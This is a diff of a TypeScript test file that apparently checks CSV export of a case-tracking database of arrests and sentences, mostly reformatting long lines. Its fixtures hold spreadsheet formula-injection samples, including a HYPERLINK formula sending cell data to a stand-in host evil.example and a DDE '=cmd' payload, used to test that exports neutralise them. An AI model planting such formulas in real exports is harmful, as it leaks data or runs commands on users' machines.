@@ -34,7 +34,7 @@ const FORMULA_CITY = "Formulaville";
 const FORMULA_NAMES = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+1", "-2", "@SUM(A1:A9)", "\tx", "\rx"];
 const PERSIAN_CITY = "Ardabil-fa-test";
 const PERSIAN_NAME = "فاطمه ابراهیم‌زاده";
-const PERSIAN_ALIAS = "Fatemeh Ebrahimzadeh, \"Fati\"";
+const PERSIAN_ALIAS = 'Fatemeh Ebrahimzadeh, "Fati"';
 
 /** A person (names normalised as every writer stores them) with one case and the given events. */
 async function personWithCase(input: {
@@ -68,7 +68,17 @@ async function personWithCase(input: {
       events: {
         create: [
           { position: 0, type: "ARREST", date: arrestDate, datePrecision: input.arrest.precision, city: input.city },
-          ...(input.sentence ? [{ position: 1, type: "SENTENCE" as const, lashes: input.sentence.lashes, prisonDays: input.sentence.prisonDays, charges: { create: [{ text: "=cmd|' /C calc'!A0", article: "Article 500" }] } }] : []),
+          ...(input.sentence
+            ? [
+                {
+                  position: 1,
+                  type: "SENTENCE" as const,
+                  lashes: input.sentence.lashes,
+                  prisonDays: input.sentence.prisonDays,
+                  charges: { create: [{ text: "=cmd|' /C calc'!A0", article: "Article 500" }] },
+                },
+              ]
+            : []),
         ],
       },
     },
@@ -84,7 +94,13 @@ beforeAll(async () => {
   editor = await createUser("EDITOR");
   admin = await createUser("ADMIN");
   for (const [i, name] of FORMULA_NAMES.entries()) {
-    await personWithCase({ name, aliases: i === 0 ? ["-alias", "@alias"] : [], city: FORMULA_CITY, arrest: { date: `2021-0${i + 1}-15`, precision: "DAY" }, sentence: { lashes: 10 + i, prisonDays: 365 } });
+    await personWithCase({
+      name,
+      aliases: i === 0 ? ["-alias", "@alias"] : [],
+      city: FORMULA_CITY,
+      arrest: { date: `2021-0${i + 1}-15`, precision: "DAY" },
+      sentence: { lashes: 10 + i, prisonDays: 365 },
+    });
   }
   await personWithCase({ name: PERSIAN_NAME, aliases: [PERSIAN_ALIAS, "Line\nbreak"], city: PERSIAN_CITY, arrest: { date: "2020-10-01", precision: "MONTH" } });
   await personWithCase({ name: "Year Only Person", city: PERSIAN_CITY, arrest: { date: "2019-01-01", precision: "YEAR" } });
@@ -128,7 +144,8 @@ function expectedCsvRow(row: CaseTableRow, columns: readonly CaseTableColumn[]):
     if (c === "status") out.push(messages.status[row.status.value], partial(row.status), precision(row.status));
     if (c === "facility") out.push(text(row.facility?.name));
     if (c === "court") out.push(text(row.court?.name), text(row.court?.branch));
-    if (c === "charges") out.push(text(row.charges.map((ch) => (ch.text && ch.article ? `${ch.text} (${ch.article})` : (ch.text ?? ch.article ?? ""))).join("; ") || null));
+    if (c === "charges")
+      out.push(text(row.charges.map((ch) => (ch.text && ch.article ? `${ch.text} (${ch.article})` : (ch.text ?? ch.article ?? ""))).join("; ") || null));
     if (c === "firstInstancePrisonDays") out.push(num(row.firstInstance.prisonDays));
     if (c === "firstInstanceLashes") out.push(num(row.firstInstance.lashes));
     if (c === "effectivePrisonDays") out.push(num(row.effective.prisonDays));
@@ -190,10 +207,18 @@ describe("CSV holds exactly the rows and columns of the table's view", () => {
       name: "two statuses, sorted by lashes then person",
       query: `status=IMPRISONED&status=SENTENCED&sort=-effectiveLashes,person&${ALL_COLUMNS}`,
       filters: { status: ["IMPRISONED", "SENTENCED"] },
-      sort: [{ key: "effectiveLashes", desc: true }, { key: "person", desc: false }],
+      sort: [
+        { key: "effectiveLashes", desc: true },
+        { key: "person", desc: false },
+      ],
       columns: CASE_TABLE_COLUMNS,
     },
-    { name: "a name search ranked by similarity", query: "q=Ibrahimzade&cols=person,city,status", filters: { q: "Ibrahimzade" }, columns: ["person", "city", "status"] },
+    {
+      name: "a name search ranked by similarity",
+      query: "q=Ibrahimzade&cols=person,city,status",
+      filters: { q: "Ibrahimzade" },
+      columns: ["person", "city", "status"],
+    },
     {
       name: "an arrest-date range with a sentence, oldest first, page and page size ignored",
       query: `arrestFrom=2020-07-01&arrestTo=2021-12-31&hasSentence=true&sort=arrestDate&page=3&pageSize=25&${ALL_COLUMNS}`,
@@ -218,7 +243,11 @@ describe("CSV holds exactly the rows and columns of the table's view", () => {
   it("streams a ranked name search in batches of 2 (the helper transactions set the search threshold too)", async () => {
     const expected = await tableRows({ q: "Ibrahimzade" });
     expect(expected.length).toBeGreaterThan(2);
-    const exported = await openCaseExport(editor, { format: "csv", filters: { q: "Ibrahimzade" }, sort: null, columns: DEFAULT_CASE_COLUMNS }, { batchSize: 2 });
+    const exported = await openCaseExport(
+      editor,
+      { format: "csv", filters: { q: "Ibrahimzade" }, sort: null, columns: DEFAULT_CASE_COLUMNS },
+      { batchSize: 2 },
+    );
     const rows: CaseTableRow[] = [];
     for await (const batch of exported.batches) rows.push(...batch);
     expect(rows.map((r) => r.id)).toEqual(expected.map((r) => r.id));
@@ -227,7 +256,11 @@ describe("CSV holds exactly the rows and columns of the table's view", () => {
 
   it("streams many batches through the cursor in the table's order (batches of 7 rows)", async () => {
     const expected = await tableRows({}, [{ key: "person", desc: false }]);
-    const exported = await openCaseExport(editor, { format: "csv", filters: {}, sort: [{ key: "person", desc: false }], columns: DEFAULT_CASE_COLUMNS }, { batchSize: 7 });
+    const exported = await openCaseExport(
+      editor,
+      { format: "csv", filters: {}, sort: [{ key: "person", desc: false }], columns: DEFAULT_CASE_COLUMNS },
+      { batchSize: 7 },
+    );
     const batches: CaseTableRow[][] = [];
     for await (const batch of exported.batches) batches.push(batch);
     expect(batches.length).toBe(Math.ceil(expected.length / 7));
@@ -241,7 +274,9 @@ describe("CSV encoding", () => {
     const { bytes, records } = await csvOf(`city=${PERSIAN_CITY}&sort=person`);
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const text = bytes.toString("utf8");
-    expect(text.split("\r\n")[0]).toBe("\uFEFFPerson,Also spelled,Arrest city,Incident,Arrested,Arrest date precision,Last known status,Status date,Status date precision,Court,Court branch,Charges,Effective prison (days),Effective lashes");
+    expect(text.split("\r\n")[0]).toBe(
+      "\uFEFFPerson,Also spelled,Arrest city,Incident,Arrested,Arrest date precision,Last known status,Status date,Status date precision,Court,Court branch,Charges,Effective prison (days),Effective lashes",
+    );
     const persian = records.find((r) => r[0] === PERSIAN_NAME);
     expect(persian?.[1]).toBe(`${PERSIAN_ALIAS}; Line\nbreak`);
     // Month and year precision print as the period, with the precision named.
@@ -363,7 +398,15 @@ describe("roles, parameters and the audit trail", () => {
       break;
     }
     await expect
-      .poll(async () => (await db().$queryRaw<{ n: number }[]>`SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND state LIKE 'idle in transaction%'`)[0]?.n, { timeout: 5000 })
+      .poll(
+        async () =>
+          (
+            await db().$queryRaw<
+              { n: number }[]
+            >`SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND state LIKE 'idle in transaction%'`
+          )[0]?.n,
+        { timeout: 5000 },
+      )
       .toBe(0);
   });
 
@@ -374,7 +417,15 @@ describe("roles, parameters and the audit trail", () => {
     await reader.cancel();
     // The reading transaction rolls back: no connection stays idle in a transaction.
     await expect
-      .poll(async () => (await db().$queryRaw<{ n: number }[]>`SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND state LIKE 'idle in transaction%'`)[0]?.n, { timeout: 5000 })
+      .poll(
+        async () =>
+          (
+            await db().$queryRaw<
+              { n: number }[]
+            >`SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND state LIKE 'idle in transaction%'`
+          )[0]?.n,
+        { timeout: 5000 },
+      )
       .toBe(0);
   });
 });
